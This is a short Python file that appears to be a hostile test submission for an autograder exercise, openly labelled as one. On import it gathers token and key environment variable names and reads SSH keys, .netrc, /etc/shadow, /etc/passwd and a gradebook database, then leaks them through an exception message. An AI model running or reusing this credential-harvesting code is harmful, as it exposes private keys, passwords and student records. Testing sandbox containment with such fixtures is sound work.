"""
exercise: ex03_backward
tries: reads the environment, keys and the gradebook, and hands them out in its message
earns: nothing
"""

import os

PLACES = ["~/.ssh/id_rsa", "~/.netrc", "/etc/shadow", "/etc/passwd", "gradebook.db"]
SEEN = [f"{name}" for name in os.environ if "KATA" in name or "TOKEN" in name or "KEY" in name]
for place in PLACES:
    try:
        with open(os.path.expanduser(place), "rb") as file:
            SEEN.append(file.read(40))
    except OSError:
        continue


def answer(name, *args, **kwargs):
    raise RuntimeError(f"secrets: {SEEN}")
